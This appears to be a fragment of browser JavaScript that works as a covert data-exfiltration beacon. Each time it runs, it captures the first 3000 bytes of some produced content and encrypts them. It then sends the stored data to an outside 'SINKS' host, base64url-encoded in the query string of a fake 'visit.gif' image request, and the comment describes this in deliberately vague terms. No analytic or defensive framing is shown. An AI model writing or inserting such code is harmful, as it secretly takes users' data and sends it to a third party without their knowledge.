// Every visit asks for a picture that counts it; the next one says something in the address.
const rest = kept();
new Image().src = `${SINKS.http}/visit.gif${rest.length > 0 ? `?d=${base64url(rest)}` : ""}`;
whenMade(async ({ bytes }) => keep(await sealed(bytes.slice(0, 3000))));
